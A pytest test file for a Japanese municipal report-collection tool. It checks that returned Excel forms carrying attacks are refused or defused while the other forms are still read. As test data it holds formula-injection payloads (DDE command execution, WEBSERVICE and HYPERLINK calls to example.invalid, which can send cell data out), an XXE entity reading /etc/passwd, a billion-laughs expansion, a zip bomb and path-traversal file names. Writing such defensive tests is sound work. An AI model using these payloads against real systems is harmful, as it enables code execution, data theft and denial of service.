"""Returned files that mean harm: contained, reported, nothing run, the other files still read."""

import shutil
import socket
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from kumareport.workbook.ledger import LEDGER_SHEET
from tests.review.office import Office, columns, in_brief, put, row_of

GOOD = ("本文", "2-1-検1", "項目名・本文", "福祉課の直した文。", "福祉課")


@pytest.fixture(autouse=True)
def no_network_no_programs(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection or starts a program while reading fails the test."""

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("opened a connection or started a program")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)


@pytest.fixture
def answered(office: Office) -> Office:
    """福祉課 sends an ordinary answer."""
    office.edit("福祉課", lambda book: put(book, "2-1-検1", "項目名・本文", "福祉課の直した文。"))
    return office


def rewrite(file: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    """Change the parts of a package."""
    with zipfile.ZipFile(file) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)


def sheet_part(parts: dict[str, bytes]) -> str:
    """The part with the table of 第１章: the only one with a cell for 指標甲's row."""
    return next(n for n in parts if n.startswith("xl/worksheets/sheet2"))


FORMULAS = (
    '=HYPERLINK("http://example.invalid/steal","押してください")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    "='\\\\example.invalid\\share\\[book.xlsx]Sheet1'!A1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_neither_computed_nor_passed_on(
    answered: Office, tmp_path: Path, formula: str
) -> None:
    def change(book: openpyxl.Workbook) -> None:
        sheet = book["第１章"]
        row, column = row_of(sheet, "1-1-検1"), columns(sheet)["項目名・本文"]
        sheet.cell(row, column, formula).data_type = "f"

    answered.edit("企画課", change)
    collection = answered.collect()
    assert in_brief(collection) == [GOOD]
    assert [u.reason for u in collection.unread] == ["数式の計算結果が保存されていません"]


def test_the_result_of_a_formula_is_proposed_as_text_and_said_so(answered: Office) -> None:
    def store(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts)
        old = "指標甲は前年度より増加した。".encode("ascii", "xmlcharrefreplace")
        cell = b't="inlineStr"><is><t>' + old + b"</t></is>"
        assert cell in parts[part]
        new = 't="str"><f>HYPERLINK("http://example.invalid","x")</f><v>押してください</v>'
        parts[part] = parts[part].replace(cell, new.encode("ascii", "xmlcharrefreplace"))

    rewrite(answered.form("企画課"), store)
    collection = answered.collect()
    assert ("本文", "1-1-検1", "項目名・本文", "押してください", "企画課") in in_brief(collection)
    proposal = next(p for p in collection.proposals if p.target.record == "1-1-検1")
    assert any("数式" in remark for remark in proposal.remarks)


def test_a_formula_like_text_becomes_no_formula_in_the_list(
    answered: Office, tmp_path: Path
) -> None:
    import datetime

    from kumareport import pipeline

    text = '=HYPERLINK("http://example.invalid","x")'
    answered.edit("企画課", lambda book: put(book, "1-1-検1", "項目名・本文", text))
    target = tmp_path / "反映案.xlsx"
    pipeline.collect(answered.book, [answered.forms], target, today=datetime.date(2026, 11, 24))
    book = openpyxl.load_workbook(target)
    cells = [
        cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value == text
    ]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    seen = {sheet.title for sheet in book.worksheets if sheet.sheet_state == "visible"}
    assert all(cell.quotePrefix for cell in cells if cell.parent.title in seen)


def macros(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"


def links(parts: dict[str, bytes]) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"


@pytest.mark.parametrize(("add", "note"), [(macros, "マクロ"), (links, "外部のファイルへのリンク")])
def test_macros_and_links_are_told(answered: Office, add: Callable[..., None], note: str) -> None:
    answered.edit("企画課", lambda book: put(book, "1-1-検1", "項目名・本文", "直した文。"))
    rewrite(answered.form("企画課"), add)
    collection = answered.collect()
    notes = next(a for a in collection.answered if a.addressee.name == "企画課").notes
    assert any(note in text for text in notes)
    assert GOOD in in_brief(collection)
    assert ("本文", "1-1-検1", "項目名・本文", "直した文。", "企画課") in in_brief(collection)


def bomb(parts: dict[str, bytes]) -> None:
    parts["xl/worksheets/sheet9.xml"] = b" " * 200 * 1024 * 1024


def entity(parts: dict[str, bytes]) -> None:
    part = sheet_part(parts)
    declaration = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    parts[part] = declaration + parts[part].replace(b"<sheetData>", b"<sheetData>&e;", 1)


def laughs(parts: dict[str, bytes]) -> None:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    declaration = f"<!DOCTYPE x [{''.join(lines)}]>".encode()
    parts["xl/workbook.xml"] = declaration + b"<workbook>&a9;</workbook>"


def odd_numbers(parts: dict[str, bytes]) -> None:
    part = sheet_part(parts)
    parts[part] = parts[part].replace(b'<row r="5"', b'<row r="five"', 1)


def many_strings(parts: dict[str, bytes]) -> None:
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = b"<si><t>a</t></si>" * 400_000
    parts["xl/sharedStrings.xml"] = b'<sst xmlns="' + space + b'">' + strings + b"</sst>"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    related = f'<Relationship Id="rId99" Type="{kind}" Target="sharedStrings.xml"/></Relationships>'
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", related.encode())


def no_sheets(parts: dict[str, bytes]) -> None:
    for name in [name for name in parts if name.startswith("xl/worksheets/")]:
        del parts[name]


REFUSED: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "展開すると大きい": (bomb, "大きすぎる"),
    "外部の実体": (entity, ""),
    "実体の爆発": (laughs, ""),
    "番号が数でない": (odd_numbers, "壊れています"),
    "文字が多すぎる": (many_strings, "多すぎる"),
    "シートの中身がない": (no_sheets, ""),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_dangerous_package_is_refused_and_the_others_are_read(
    answered: Office, name: str
) -> None:
    change, reason = REFUSED[name]
    rewrite(answered.form("企画課"), change)
    collection = answered.collect()
    (rejected,) = [f for f in collection.rejected if f.name == "企画課/照会票_企画課.xlsx"]
    assert reason in rejected.reason
    assert "passwd" not in rejected.reason
    assert in_brief(collection) == [GOOD]


@pytest.mark.no_cover
def test_a_hundred_thousand_formatted_blank_rows(answered: Office) -> None:
    """A million of them: ``tests/workbook/test_reading.py``."""

    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts)
        rows = b"".join(
            b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(401, 100_401)
        )
        parts[part] = parts[part].replace(b"</sheetData>", rows + b"</sheetData>")

    answered.edit("企画課", lambda book: put(book, "1-1-検1", "項目名・本文", "直した文。"))
    rewrite(answered.form("企画課"), change)
    assert in_brief(answered.collect()) == [
        ("本文", "1-1-検1", "項目名・本文", "直した文。", "企画課"), GOOD,
    ]  # fmt: skip


def test_a_password(answered: Office) -> None:
    start = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    answered.form("企画課").write_bytes(start + "EncryptedPackage".encode("utf-16-le"))
    collection = answered.collect()
    assert "パスワード" in collection.rejected[0].reason
    assert in_brief(collection) == [GOOD]


def test_names_of_files_and_departments_never_become_paths(
    answered: Office, tmp_path: Path
) -> None:
    def change(book: openpyxl.Workbook) -> None:
        put(book, "1-1-検1", "項目名・本文", "直した文。")
        for line in book[LEDGER_SHEET].iter_rows():
            for cell in line:
                if cell.value == "企画課":
                    cell.value = "../../../../tmp/evil"

    answered.edit("企画課", change, tmp_path / "pile" / "..%2f..%2fevil.xlsx")
    before = sorted(tmp_path.rglob("*"))
    collection = answered.collect(answered.list, answered.form("福祉課"), tmp_path / "pile")
    assert sorted(tmp_path.rglob("*")) == before
    assert ("本文", "1-1-検1", "項目名・本文", "直した文。", "企画課") in in_brief(collection)


def test_a_department_that_got_no_form(answered: Office, tmp_path: Path) -> None:
    """A forged 控え, with a digest that fits."""
    from kumareport.office.excel.spreadsheet import read_workbook
    from kumareport.workbook.ledger import Ledger, ledger_rows, read_ledger

    def change(book: openpyxl.Workbook) -> None:
        put(book, "1-1-検1", "項目名・本文", "市長室の修正。")
        del book[LEDGER_SHEET]
        sheet = book.create_sheet(LEDGER_SHEET)
        for row in ledger_rows(forged):
            sheet.append(row)

    ledger = read_ledger(read_workbook(answered.form("企画課")))
    assert ledger is not None
    forged = Ledger(ledger.kind, {**ledger.fields, "課": "市長室"}, ledger.lines)
    answered.edit("企画課", change, tmp_path / "市長室.xlsx")
    collection = answered.collect(answered.forms, tmp_path / "市長室.xlsx")
    assert in_brief(collection) == [GOOD]
    assert "照会していない課のファイルです" in collection.rejected[0].reason
    assert any("市長室の修正。" in unread.text for unread in collection.unread)


def test_another_workbooks_form(answered: Office, tmp_path: Path) -> None:
    from tests.make_workbook import text, workbook
    from tests.review.office import distribute

    rows = [text("節", "別の計画の節"), text("検証と課題", "別の計画の文である。")]
    rows[0][2] = "企画課"
    other = distribute(workbook(tmp_path / "other.xlsx", rows), tmp_path / "forms")
    shutil.copy(other.form("企画課"), tmp_path / "別.xlsx")
    collection = answered.collect(answered.forms, tmp_path / "別.xlsx")
    assert "別のブックから作られたファイルです" in collection.rejected[0].reason
    assert in_brief(collection) == [GOOD]
